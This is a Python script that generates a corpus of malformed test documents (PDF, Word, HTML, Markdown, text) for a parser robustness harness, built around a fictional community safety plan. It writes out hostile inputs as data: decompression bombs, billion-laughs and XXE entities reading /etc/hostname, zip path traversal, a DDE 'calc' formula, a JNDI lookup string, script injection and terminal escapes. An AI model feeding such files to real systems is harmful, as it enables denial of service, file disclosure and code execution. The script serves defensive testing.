"""Documents that break readers, made in memory: `DOCUMENTS` maps a file name to a function that gives its bytes.

`python make.py FOLDER` writes all of them, with the large ones, and a MANIFEST.csv for a harness.
"""

from __future__ import annotations

import csv
import io
import random
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

SENTENCE = "Wardens of Nether Wolddale walk the market square every Friday night until March 2024. "
PLAN = (
    "# Nether Wolddale Community Safety Partnership Action Plan 2023-24\n\n"
    "| Objective | Action | Lead | By when |\n|---|---|---|---|\n"
    "| Burglary | Visit every home near a burglary. | Nether Wolddale Council | March 2024 |\n"
)


def stream(data: bytes, extra: bytes = b"", squeeze: int = 0) -> bytes:
    """A stream object, deflated `squeeze` times."""
    for _ in range(squeeze):
        data = zlib.compress(data, 9)
    names = b" ".join([b"/FlateDecode"] * squeeze)
    filters = b"/Filter [" + names + b"]" if squeeze else b""
    return b"<< /Length %d %s %s >>\nstream\n%s\nendstream" % (len(data), filters, extra, data)


def pdf(objects: dict[int, bytes], root: int = 1, trailer: bytes = b"") -> bytes:
    """A PDF of numbered objects with a cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    size = max(objects) + 1
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number in sorted(offsets):
        out += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    out += b"trailer\n<< /Size %d /Root %d 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer, start)
    return bytes(out)


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def one_page(
    content: bytes,
    more: dict[int, bytes] | None = None,
    resources: bytes = b"",
    box: bytes = b"[0 0 595 842]",
    font: bytes = FONT,
    page: bytes = b"",
    trailer: bytes = b"",
) -> bytes:
    """A PDF of one page; `content` is a whole stream object, object 5 the font, from 10 on `more`."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> %s >> %s >>"
        % (box, resources, page),
        4: content,
        5: font,
    }
    objects.update(more or {})
    return pdf(objects, trailer=trailer)


def lines(texts: list[bytes], size: int = 10, left: int = 40) -> bytes:
    """Content that prints texts one below the other."""
    out = [b"BT /F1 %d Tf %d TL %d 800 Td" % (size, size + 2, left)]
    out += [b"(%s) Tj T*" % text.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)") for text in texts]
    return b"\n".join([*out, b"ET"])


PLAIN_LINES = [SENTENCE.encode()] * 20


def many_pages(count: int, nested: bool = False) -> bytes:
    """A PDF of `count` pages with the same few lines."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 4: stream(lines(PLAIN_LINES), squeeze=1), 5: FONT}
    kids = []
    parent = 2
    for number in range(count):
        if nested and number % 1000 == 0:
            parent = 10 + count + number
            objects[parent] = b""
        objects[10 + number] = (
            b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>" % parent
        )
        kids.append(b"%d 0 R" % (10 + number))
    if nested:
        groups = [10 + count + number for number in range(0, count, 1000)]
        for index, group in enumerate(groups):
            own = kids[1000 * index : 1000 * index + 1000]
            objects[group] = b"<< /Type /Pages /Parent 2 0 R /Count %d /Kids [%s] >>" % (len(own), b" ".join(own))
        kids = [b"%d 0 R" % group for group in groups]
    objects[2] = b"<< /Type /Pages /Count %d /Kids [%s] >>" % (count, b" ".join(kids))
    return pdf(objects)


def one_page_many_times(count: int) -> bytes:
    """A page tree that names one page `count` times."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Count %d /Kids [%s] >>" % (count, b" ".join([b"3 0 R"] * count)),
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        4: stream(lines(PLAIN_LINES), squeeze=1),
        5: FONT,
    }
    return pdf(objects)


def tree_of_pages(depth: int, width: int) -> bytes:
    """A page tree that is its own grandchild `width` times a level: width**depth pages by its counts."""
    objects = {1: b"<< /Type /Catalog /Pages 10 0 R >>", 4: stream(lines(PLAIN_LINES)), 5: FONT}
    for level in range(depth):
        number = 10 + level
        objects[number] = b"<< /Type /Pages /Count %d /Kids [%s] >>" % (
            min(width ** (depth - level), 2**31 - 1),
            b" ".join([b"%d 0 R" % (number + 1)] * width),
        )
    objects[10 + depth] = (
        b"<< /Type /Page /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
    )
    return pdf(objects)


def form(content: bytes, resources: bytes) -> bytes:
    return stream(
        content,
        b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> %s >>" % resources,
    )


def forms_that_grow(levels: int, times: int) -> bytes:
    """Forms that each show the next one `times` times."""
    more = {}
    for level in range(levels):
        calls = b"".join(b"q 1 0 0 1 %d 1 cm /X Do Q " % (i + 1) for i in range(times))
        more[10 + level] = form(calls, b"/XObject << /X %d 0 R >>" % (11 + level))
    more[10 + levels] = form(lines([b"deep down"]) + b" 10 10 50 50 re S", b"")
    content = lines(PLAIN_LINES) + b" /X Do"
    return one_page(stream(content), more, b"/XObject << /X 10 0 R >>")


def cmap_font(body: bytes, squeeze: int = 1) -> tuple[bytes, dict[int, bytes]]:
    """A font with a ToUnicode map of `body`."""
    head = b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /X def /CMapType 2 def\n"
    head += b"1 begincodespacerange <00> <FF> endcodespacerange\n"
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding /ToUnicode 10 0 R >>"
    return font, {10: stream(head + body + b"\nendcmap end end", squeeze=squeeze)}


def mapped_to(target: bytes) -> bytes:
    """A page whose every character has `target` (hex of UTF-16) as its text."""
    font, more = cmap_font(b"1 beginbfrange <20> <7E> [" + b" ".join([b"<" + target + b">"] * 95) + b"] endbfrange")
    return one_page(stream(lines(PLAIN_LINES[:3])), more, font=font)


def object_stream_bomb(size: int) -> bytes:
    """Page objects within an object stream that unpacks to `size` bytes."""
    inner = (
        b"<< /Type /Catalog /Pages 2 0 R >> << /Type /Pages /Kids [3 0 R] /Count 1 >> "
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >> "
    )
    second = inner.index(b"<< /Type /Pages")
    third = inner.index(b"<< /Type /Page /Parent")
    head = b"1 0 2 %d 3 %d " % (second, third)
    packed = stream(head + inner + b" " * size, b"/Type /ObjStm /N 3 /First %d" % len(head), squeeze=1)
    out = bytearray(b"%PDF-1.7\n")
    at = len(out)
    out += b"7 0 obj\n" + packed + b"\nendobj\n"
    start = len(out)
    rows = b"\0\0\0\0\0" + b"".join(b"\2" + (7).to_bytes(3, "big") + bytes([i]) for i in range(3))
    rows += b"\0\0\0\0\0" * 3 + b"\1" + at.to_bytes(3, "big") + b"\0" + b"\1" + start.to_bytes(3, "big") + b"\0"
    rows += b"\0\0\0\0\0" * (size // 50)
    count = len(rows) // 5
    xref = stream(rows, b"/Type /XRef /W [1 3 1] /Size %d /Root 1 0 R" % count, squeeze=1)
    out += b"8 0 obj\n" + xref + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def drawn(count: int) -> bytes:
    """A page of `count` segments: a grid of strokes and one endless path."""
    half = count // 2
    strokes = b"\n".join(
        b"%d %d m %d %d l S" % (i % 600, i // 600 % 800, i % 600 + 9, i // 600 % 800) for i in range(half)
    )
    path = b"0 0 m\n" + b"\n".join(b"%d %d l" % (i % 590, i * 7 % 840) for i in range(half)) + b"\nS\n"
    return one_page(stream(lines(PLAIN_LINES) + strokes + path, squeeze=1))


def characters(count: int, wide: int = 100, side: int = 842) -> bytes:
    """A page of `count` characters, lines over one another."""
    row = (SENTENCE * (wide // len(SENTENCE) + 1)).encode()[:wide]
    body = b"\n".join(
        b"BT /F1 4 Tf 1 0 0 1 %d %d Tm (%s) Tj ET" % (10 + i % 7, 10 + i * 3 % (side - 20), row)
        for i in range(count // wide)
    )
    box = b"[0 0 %d %d]" % (side, side)
    return one_page(stream(body, squeeze=1), box=box)


def boxes(rows: int, columns: int) -> bytes:
    """A page ruled into `rows` x `columns` cells, a letter in each tenth."""
    out = []
    for row in range(rows + 1):
        y = 10 + 820 * row / rows
        out.append(b"10 %.2f m 580 %.2f l S" % (y, y))
    for column in range(columns + 1):
        x = 10 + 570 * column / columns
        out.append(b"%.2f 10 m %.2f 830 l S" % (x, x))
    for index in range(0, rows * columns, 10):
        row, column = divmod(index, columns)
        out.append(b"BT /F1 3 Tf 1 0 0 1 %.2f %.2f Tm (a) Tj ET" % (11 + 570 * column / columns, 11 + 820 * row / rows))
    return one_page(stream(b"\n".join(out), squeeze=1))


def docx(document: str, more: dict[str, str | bytes] | None = None) -> bytes:
    """A Word file with this body, or this whole document.xml when it begins with `<?xml`."""
    name = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    if not document.startswith("<?xml"):
        document = f'<?xml version="1.0"?><w:document xmlns:w="{name}"><w:body>{document}</w:body></w:document>'
    office = "application/vnd.openxmlformats-officedocument.wordprocessingml"
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": '<?xml version="1.0"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{office}.document.main+xml"/>'
        f'<Override PartName="/word/styles.xml" ContentType="{office}.styles+xml"/></Types>',
        "_rels/.rels": '<?xml version="1.0"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="word/document.xml"/></Relationships>',
        "word/_rels/document.xml.rels": '<?xml version="1.0"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" '
        'Target="styles.xml"/></Relationships>',
        "word/styles.xml": f'<?xml version="1.0"?><w:styles xmlns:w="{name}"/>',
        "word/document.xml": document,
    }
    parts.update(more or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as packed:
        for part, text in parts.items():
            packed.writestr(part, text)
    return out.getvalue()


def paragraph(text: str, properties: str = "") -> str:
    return f"<w:p>{properties}<w:r><w:t>{text}</w:t></w:r></w:p>"


WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
LOOPED_STYLES = (
    f'<?xml version="1.0"?><w:styles xmlns:w="{WORD}">'
    '<w:style w:type="paragraph" w:styleId="A"><w:name w:val="A"/><w:basedOn w:val="B"/></w:style>'
    '<w:style w:type="paragraph" w:styleId="B"><w:name w:val="B"/><w:basedOn w:val="A"/></w:style></w:styles>'
)
LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 11))
ENTITIES = (
    f'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY l0 "ha">{LAUGHS}<!ENTITY file SYSTEM "file:///etc/hostname">]>'
    f'<w:document xmlns:w="{WORD}"><w:body>'
    f"{paragraph('Wardens of Wolddale walk the square &l10;')}{paragraph('secret &file; here')}</w:body></w:document>"
)
NASTY = (
    "=CMD|'/C calc'!A0 +1+1 @SUM(1) -2+3 <script>alert(1)</script> [bold red]markup[/bold red] [/] "
    "\x1b[31mred\x1b]0;title\x07 \u202egnp.exe\u202c \u2066in\u2069 \u200bzero\ufeff nul\x00nul \x9b31m bell\x07 "
    "../../../../tmp/csp_pwned \ud800lone \ufffe\uffff ${jndi:ldap://x} %s%n {0} https://[broken \x7f\x85end"
)


def nasty_plan() -> bytes:
    text = NASTY.replace("|", "\\|")
    rows = "".join(f"| {text} | {text} | {text} | {text} March 2024 | £5,000 {text} |\n" for _ in range(3))
    head = f"# {NASTY} Community Safety Partnership Action Plan 2023-24\n\n{NASTY}\n\n"
    whole = f"{head}| Priority | Action | Lead agency | By when | Funding |\n|---|---|---|---|---|\n{rows}"
    return whole.encode("utf-8", "surrogatepass")


def cell(text: str) -> bytes:
    """A plan whose lead cell is `text`."""
    return (PLAN + f"| Theft | Mark every bicycle in the town. | {text} | June 2023 |\n").encode()


def action(text: str) -> bytes:
    """A plan with an action of this text."""
    return (PLAN + f"| Theft | {text} | Nether Wolddale Council | June 2023 |\n").encode()


def noise(size: int, seed: int = 1) -> bytes:
    return random.Random(seed).randbytes(size)


def _nul_utf16(text: str) -> bytes:
    return text.encode("utf-16-le")


def pdf_with(text: bytes, info: bytes = b"") -> bytes:
    data = one_page(stream(lines([text, *PLAIN_LINES])), {9: info} if info else None)
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R /Info 9 0 R") if info else data


def repeated(lump: str, times: int) -> Callable[[], bytes]:
    return lambda: (PLAN + "\n" + lump * times + "\n").encode()


DOCUMENTS: dict[str, Callable[[], bytes]] = {
    # PDF
    "plain.pdf": lambda: one_page(stream(lines(PLAIN_LINES))),
    "form_of_itself.pdf": lambda: one_page(
        stream(lines(PLAIN_LINES) + b" /X Do"),
        {10: form(b"/X Do " + lines([b"inner"]), b"/XObject << /X 10 0 R >>")},
        b"/XObject << /X 10 0 R >>",
    ),
    "forms_that_grow.pdf": lambda: forms_that_grow(25, 2),
    "tounicode_ranges.pdf": lambda: one_page(
        stream(lines(PLAIN_LINES)),
        cmap_font(b"\n".join([b"100 beginbfrange"] + [b"<0000> <FFFF> <0041>"] * 2000 + [b"endbfrange"]))[1],
        font=cmap_font(b"")[0],
    ),
    "long_targets.pdf": lambda: mapped_to(b"0041" * 500),
    "lone_surrogates.pdf": lambda: mapped_to(b"D800"),
    "controls.pdf": lambda: mapped_to(b"0007"),
    "bidi.pdf": lambda: mapped_to(b"202E0041"),
    "nul.pdf": lambda: mapped_to(b"0000"),
    "mediabox_looped.pdf": lambda: one_page(stream(lines(PLAIN_LINES)), {10: b"11 0 R", 11: b"10 0 R"}, box=b"10 0 R"),
    "mediabox_huge.pdf": lambda: one_page(stream(lines(PLAIN_LINES)), box=b"[0 0 1e30 1e38]"),
    "mediabox_digits.pdf": lambda: one_page(
        stream(lines(PLAIN_LINES)), box=b"[0 0 " + b"9" * 10_000 + b" " + b"8" * 10_000 + b"]"
    ),
    "mediabox_nothing.pdf": lambda: one_page(stream(lines(PLAIN_LINES)), box=b"[0 0 0 0]"),
    "square_14400.pdf": lambda: one_page(stream(lines(PLAIN_LINES)), box=b"[0 0 14400 14400]"),
    "digits.pdf": lambda: one_page(
        stream(lines(PLAIN_LINES) + b"\n" + b"9" * 10_000 + b" 0 0 1 " + b"1" * 10_000 + b" 0 cm 0 0 9 9 re S"),
        page=b"/Rotate " + b"9" * 10_000,
    ),
    "deep_arrays.pdf": lambda: one_page(stream(lines(PLAIN_LINES)), page=b"/X " + b"[" * 50_000 + b"]" * 50_000),
    "deep_dicts.pdf": lambda: one_page(
        stream(lines(PLAIN_LINES)), page=b"/X " + b"<< /A " * 20_000 + b"1" + b" >>" * 20_000
    ),
    "deep_states.pdf": lambda: one_page(stream(b"q " * 200_000 + lines(PLAIN_LINES) + b" Q" * 200_000, squeeze=1)),
    "pages_by_counts.pdf": lambda: tree_of_pages(9, 10),
    "pages_negative.pdf": lambda: one_page(stream(lines(PLAIN_LINES))).replace(b"/Count 1", b"/Count -1"),
    "pages_none.pdf": lambda: one_page(stream(lines(PLAIN_LINES))).replace(
        b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0"
    ),
    "pages_too_few.pdf": lambda: many_pages(7).replace(b"/Count 7", b"/Count 2"),
    "pages_too_many.pdf": lambda: many_pages(3).replace(b"/Count 3", b"/Count 9"),
    "pages_loop.pdf": lambda: pdf(
        {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"}
    ),
    "cells.pdf": lambda: boxes(120, 80),
    "huge_type.pdf": lambda: one_page(stream(b"BT /F1 1e9 Tf 10 10 Td (huge letters) Tj ET " + lines(PLAIN_LINES))),
    "nan_matrix.pdf": lambda: one_page(stream(b"1e39 1e39 -1e39 1e39 1e39 1e39 cm " + lines(PLAIN_LINES))),
    "html_named.pdf": lambda: b"<!DOCTYPE html><html><body><p>Sign in</p></body></html>",
    "zip_named.pdf": lambda: docx(paragraph("text")),
    "noise_named.pdf": lambda: noise(50_000),
    "noise_with_header.pdf": lambda: b"%PDF-1.4\n" + noise(50_000),
    "header_only.pdf": lambda: b"%PDF-1.7\n",
    "cut.pdf": lambda: one_page(stream(lines(PLAIN_LINES)))[:900],
    "title.pdf": lambda: pdf_with(
        b"Wolddale =CMD|'/C calc'!A0 \x1b[31m <img src=x onerror=alert(1)>",
        b"<< /Title (\\376\\377\\000\\033\\000[\\0003\\0001\\000m\\040\\056\\330\\000) >>",
    ),
    # Word
    "plain.docx": lambda: docx(paragraph(SENTENCE) * 20),
    "broken_xml.docx": lambda: docx('<?xml version="1.0"?><w:document><w:body>'),
    "entities.docx": lambda: docx(ENTITIES),
    "deep.docx": lambda: docx("<w:sdt><w:sdtContent>" * 3000 + paragraph(SENTENCE) + "</w:sdtContent></w:sdt>" * 3000),
    "deep_tables.docx": lambda: docx("<w:tbl><w:tr><w:tc>" * 60 + paragraph(SENTENCE) + "</w:tc></w:tr></w:tbl>" * 60),
    "looped_styles.docx": lambda: docx(
        paragraph(SENTENCE, '<w:pPr><w:pStyle w:val="A"/></w:pPr>') * 5, {"word/styles.xml": LOOPED_STYLES}
    ),
    "odd_numbers.docx": lambda: docx(
        paragraph(SENTENCE, '<w:pPr><w:numPr><w:ilvl w:val="x"/><w:numId w:val="-1"/></w:numPr></w:pPr>')
        + '<w:tbl><w:tr><w:trPr><w:gridBefore w:val="ten"/></w:trPr><w:tc><w:tcPr><w:gridSpan w:val="²"/></w:tcPr>'
        + paragraph(SENTENCE)
        + "</w:tc></w:tr></w:tbl>"
    ),
    "wide.docx": lambda: docx(
        "<w:tbl><w:tr>" + "<w:tc><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc>" * 5000 + "</w:tr></w:tbl>"
    ),
    "span.docx": lambda: docx(
        '<w:tbl><w:tr><w:trPr><w:gridBefore w:val="99999999999"/></w:trPr><w:tc><w:tcPr>'
        '<w:gridSpan w:val="' + "9" * 5000 + '"/></w:tcPr>' + paragraph(SENTENCE) + "</w:tc></w:tr></w:tbl>"
    ),
    "no_body.docx": lambda: docx(f'<?xml version="1.0"?><w:document xmlns:w="{WORD}"/>'),
    "traversal.docx": lambda: docx(paragraph(SENTENCE), {"../../../../tmp/csp_pwned": "x", "/tmp/csp_pwned": "x"}),
    "plain_zip.docx": lambda: (lambda out: (zipfile.ZipFile(out, "w").close(), out.getvalue())[1])(io.BytesIO()),
    "noise.docx": lambda: b"PK\x03\x04" + noise(5000),
    "old.docx": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + noise(5000),
    # HTML
    "deep.html": lambda: ("<div>" * 10_000 + SENTENCE + "</div>" * 10_000).encode(),
    "deep_tables.html": lambda: ("<table><tr><td>" * 10_000 + SENTENCE + "</td></tr></table>" * 10_000).encode(),
    "deep_bold.html": lambda: ("<b><i>" * 20_000 + SENTENCE).encode(),
    "deep_lists.html": lambda: ("<ul><li>one " * 5000 + SENTENCE).encode(),
    "spans.html": lambda: (
        "<table>" + "<tr>" + '<td rowspan="1000" colspan="1000">a</td>' * 300 + "</tr>" + "</table><p>" + SENTENCE
    ).encode(),
    "wide.html": lambda: ("<table><tr>" + "<td>a</td>" * 20_000 + "</tr></table>").encode(),
    "unclosed.html": lambda: ("<html><body>" + "<script " * 20_000 + SENTENCE).encode(),
    "comments.html": lambda: ("<p>" + SENTENCE + "<!--" * 50_000).encode(),
    "angles.html": lambda: ("<p>" + SENTENCE + "<" * 200_000).encode(),
    "css.html": lambda: ("<style>" + ".a{" * 50_000 + "</style><p>" + SENTENCE).encode(),
    "attributes.html": lambda: ("<p " + "a" * 500_000 + '="' + "b" * 500_000 + '">' + SENTENCE).encode(),
    "entities.html": lambda: ("<p>" + SENTENCE + "&#x202e;&#0;&#xd800;&#27;[31m" * 100).encode(),
    "nasty.html": lambda: (
        "<html><title>"
        + NASTY
        + "</title><body><h1>"
        + NASTY
        + " Action Plan 2023</h1><p>"
        + NASTY
        + "</p></body></html>"
    ).encode("utf-8", "surrogatepass"),
    # text and Markdown
    "nasty.md": nasty_plan,
    "stars.md": repeated("**a*_", 20_000),
    "stars_apart.md": repeated("*a ", 20_000),
    "bars.md": repeated("_a ", 20_000),
    "triple.md": repeated("***a", 20_000),
    "ticks.md": repeated("`a``b", 20_000),
    "ticks_grow.md": lambda: (PLAN + "\n" + " ".join("`" * n for n in range(1, 600))).encode(),
    "brackets.md": repeated("[", 40_000),
    "links.md": repeated("[a](", 20_000),
    "pictures.md": repeated("![a](b", 20_000),
    "angles.md": repeated("<", 60_000),
    "tags.md": repeated("<a ", 12_000),
    "tags_named.md": repeated("<" + "a" * 50, 5_000),
    "comments.md": repeated("<!--", 20_000),
    "quotes.md": repeated("> ", 20_000),
    "hashes.md": lambda: (PLAN + "\n# a" + " #" * 20_000 + "x\n").encode(),
    "spaces.md": lambda: (PLAN + "\n# a" + " " * 40_000 + "x\n").encode(),
    "rule.md": lambda: (PLAN + "\n" + "- " * 20_000 + "x\n").encode(),
    "dashes.md": lambda: (PLAN + "\n| a |\n" + "|--" * 20_000 + "x\n").encode(),
    "dash_spaces.md": lambda: (PLAN + "\n| a |\n|" + "-- " + " " * 20_000 + "x\n").encode(),
    "pipes.md": lambda: ("|" * 40_000 + "\n" + "|-" * 40_000 + "\n").encode(),
    "escapes.md": repeated("\\", 40_000),
    "bullets.md": repeated("• ", 20_000),
    "tables_open.md": lambda: (PLAN + "<table>\n" * 20_000).encode(),
    "table_starts.md": lambda: (PLAN + "<table><tr><td>a\n</table>\n" * 3000).encode(),
    "tabs.txt": lambda: ("a\t" * 299 + "a\n").encode() * 10,
    "one_word_in_plan.md": lambda: action("a" * 1_000_000),
    "digits.txt": lambda: b"1" * 1_000_000,
    "pounds.md": lambda: action("£" * 20_000 + " £1,000,000,000,000,000,000,000,000,000,000,000,000.00"),
    "amounts.md": lambda: action("£" + "9" * 40_000 + " and " + "£1," * 20_000 + "000m"),
    "money.md": lambda: (
        PLAN.replace("By when", "Funding") + f"| a | Mark bikes. | Council | £{'9' * 400}bn |\n"
    ).encode(),
    "dates.md": lambda: (PLAN + f"| a | Mark bikes. | Council | {'2022-' * 20_000} |\n").encode(),
    "dates_odd.md": lambda: (PLAN + "| a | Mark bikes. | Council | 31 February 99999999999 to 0/0/0000 |\n").encode(),
    "percent.md": lambda: action("9" * 5000 + "% of " + "1e999 people and ٣٤٥ visits, ²³ % up"),
    "commas.md": lambda: cell("Police, " * 12_000),
    "ands.md": lambda: cell("Police and " * 5_000),
    "slashes.md": lambda: cell("Police/" * 10_000),
    "parens.md": lambda: cell("(" * 20_000 + "Police" + ")" * 20_000),
    "parens_open.md": lambda: cell("Police (" * 10_000),
    "capitals.md": lambda: cell("NWDC " * 10_000),
    "names.md": lambda: cell("Nether Wolddale Council " * 4_000),
    "long_cell.md": lambda: action(SENTENCE * 1_500),
    "members.md": lambda: (
        PLAN + "\n## Members of the partnership\n\n" + "* Nether Wolddale Council\n" * 5_000
    ).encode(),
    "headings.md": lambda: (PLAN + "\n" + "# Priority 1: Burglary\n\n" * 1_000).encode(),
    "rows.md": lambda: (PLAN + "| Burglary | Visit homes. | Nether Wolddale Council | March 2024 |\n" * 600).encode(),
    "people.md": lambda: (
        PLAN + "\n" + "Contact PC Jane Smith on 01482 000000 or jane.smith@wolddale.example. " * 2_000
    ).encode(),
    "ats.md": repeated("a.b-c_d@", 20_000),
    "dots.md": repeated("a.", 20_000),
    "at_signs.md": repeated("@", 20_000),
    "numbers.md": repeated("01482 ", 20_000),
    "capitals_long.md": repeated("Aa Bb Cc ", 10_000),
    "hyphens.md": repeated("a-", 20_000),
    "apostrophes.md": repeated("a's'", 12_000),
    "quotes_open.md": repeated("“a ", 12_000),
    "utf16.txt": lambda: PLAN.encode("utf-16"),
    "utf16_bare.txt": lambda: PLAN.encode("utf-16-le"),
    "utf16_cut.txt": lambda: PLAN.encode("utf-16")[:-1],
    "utf32.txt": lambda: PLAN.encode("utf-32"),
    "cp1252.txt": lambda: (PLAN + "Café – £5 “quoted” – naïve\n").encode("cp1252"),
    "half_utf8.txt": lambda: (PLAN + "é" * 5).encode()[:-1],
    "nuls.txt": lambda: b"\0" * 50_000,
    "nul_within.txt": lambda: PLAN.encode() + b"a\0b " * 5,
    "noise.txt": lambda: noise(50_000),
    "empty.txt": lambda: b"",
    "blank.txt": lambda: b" \n\t\n" * 1000,
    "combining.txt": lambda: (PLAN + "a" + "\u0301" * 100_000).encode(),
    "wide_letters.txt": lambda: (PLAN + "\ufdfa" * 20_000).encode(),
}
"""Small enough to make in a moment."""

LARGE: dict[str, Callable[[], bytes]] = {
    "line_ends.txt": lambda: b"\n" * 1_000_000,
    "zip_bomb_objects.pdf": lambda: object_stream_bomb(40_000_000),
    "tounicode_bomb.pdf": lambda: one_page(
        stream(lines(PLAIN_LINES)), cmap_font(b" " * 60_000_000)[1], font=cmap_font(b"")[0]
    ),
    "zip_bomb_content.pdf": lambda: one_page(stream(lines(PLAIN_LINES) + b"\n" + b" " * 60_000_000, squeeze=1)),
    "feeds.txt": lambda: b"\f\v\x1c\x1d\x1e\x85" * 20_000 + PLAN.encode(),
    "one_word.txt": lambda: b"a" * 3_000_000,
    "zip_words.docx": lambda: docx(paragraph("a " * 40_000_000)),
    "zip_bomb.docx": lambda: docx(paragraph(" " * 230_000_000)),
    "media_bomb.docx": lambda: docx(paragraph(SENTENCE), {"word/media/a.bin": b"\0" * 150_000_000}),
    "columns.tsv": lambda: ("\t".join(["a"] * 100_000) + "\n" + "\t".join(["b"] * 100_000)).encode(),
    "columns.md": lambda: ("|a" * 100_000 + "|\n" + "|-" * 100_000 + "|\n" + "|b" * 100_000 + "|\n").encode(),
    "forms_tenfold.pdf": lambda: forms_that_grow(9, 10),
    "forms_in_a_ring.pdf": lambda: one_page(
        stream(lines(PLAIN_LINES) + b" /X Do"),
        {
            10: form(b"/X Do /X Do", b"/XObject << /X 11 0 R >>"),
            11: form(b"/X Do /X Do", b"/XObject << /X 10 0 R >>"),
        },
        b"/XObject << /X 10 0 R >>",
    ),
    "bomb_500mb.pdf": lambda: one_page(stream(lines(PLAIN_LINES) + b"\n" + b" " * 500_000_000, squeeze=1)),
    "bomb_2gb_twice.pdf": lambda: one_page(stream(b" " * 1_000_000_000, squeeze=2)),
    "bomb_words.pdf": lambda: one_page(stream(lines(PLAIN_LINES * 150_000), squeeze=1)),
    "objects_500mb.pdf": lambda: object_stream_bomb(500_000_000),
    "tounicode_500mb.pdf": lambda: one_page(
        stream(lines(PLAIN_LINES)), cmap_font(b"<41> <0041>\n" * 40_000_000)[1], font=cmap_font(b"")[0]
    ),
    "segments_million.pdf": lambda: drawn(1_000_000),
    "characters_half_million.pdf": lambda: characters(500_000),
    "characters_on_14400.pdf": lambda: characters(500_000, side=14_400),
    "pages_2000.pdf": lambda: many_pages(2_000),
    "pages_100000.pdf": lambda: many_pages(100_000),
    "pages_100000_nested.pdf": lambda: many_pages(100_000, nested=True),
    "page_100000_times.pdf": lambda: one_page_many_times(100_000),
    "cells_many.pdf": lambda: boxes(400, 250),
    "text_50mb.txt": lambda: (SENTENCE * 600_000).encode()[:50_000_000],
    "word_50mb.txt": lambda: b"a" * 50_000_000,
    "text_50mb.md": lambda: (SENTENCE * 600_000).encode()[:50_000_000],
    "text_50mb.html": lambda: ("<p>" + SENTENCE * 600_000).encode()[:50_000_000],
    "text_5mb.txt": lambda: (SENTENCE * 60_000).encode(),
    "rows_200000.tsv": lambda: (
        "Objective\tAction\tLead\tWhen\n" + "Theft\tMark bikes.\tPolice\tMay 2023\n" * 200_000
    ).encode(),
    "rows_20000.md": lambda: (
        PLAN + "| Burglary | Visit homes. | Nether Wolddale Council | March 2024 |\n" * 20_000
    ).encode(),
    "commas_100000.md": lambda: cell("Police, " * 100_000),
    "words_50000.md": lambda: cell("Nether Wolddale Community Safety Team " * 10_000),
    "deep_100000.html": lambda: ("<div>" * 100_000 + SENTENCE).encode(),
    "paragraphs.docx": lambda: docx(paragraph(SENTENCE) * 60_000),
}
"""The same, larger: for a harness with limits of its own."""


def main(folder: Path) -> None:
    """Writes every document and the manifest."""
    folder.mkdir(parents=True, exist_ok=True)
    with (folder / "MANIFEST.csv").open("w", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(["file", "source", "path", "commit", "sha256", "bytes", "kind", "expected"])
        for name, make in {**DOCUMENTS, **LARGE}.items():
            data = make()
            (folder / name).write_bytes(data)
            rows.writerow([name, "own", "", "", "", len(data), name.rpartition(".")[2], "ok or clear error"])


if __name__ == "__main__":
    main(Path(sys.argv[1]))
